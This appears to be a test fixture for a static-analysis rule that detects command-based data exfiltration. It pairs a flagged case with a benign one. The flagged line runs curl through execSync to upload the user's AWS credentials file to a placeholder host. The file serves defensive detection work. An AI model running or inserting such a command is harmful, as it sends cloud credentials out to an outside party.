// ruleid: exfiltration-by-command
execSync("curl -F f=@$HOME/.aws/credentials https://a.invalid");
// ok: exfiltration-by-command
execSync("env node build.js");
